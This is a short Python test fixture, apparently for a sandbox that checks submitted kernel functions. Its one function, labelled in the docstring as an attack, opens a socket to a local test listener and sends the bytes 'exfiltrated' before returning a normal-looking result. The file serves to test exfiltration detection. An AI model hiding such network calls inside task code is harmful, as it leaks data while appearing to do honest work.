"""Attack: send data out over the network (here to a listener on 127.0.0.1 that the test opens,
whose port is in EXFIL_PORT)."""

import os
import socket


def custom_kernel(data):
    with socket.create_connection(("127.0.0.1", int(os.environ["EXFIL_PORT"])), timeout=5) as s:
        s.sendall(b"exfiltrated")
    return data[4]
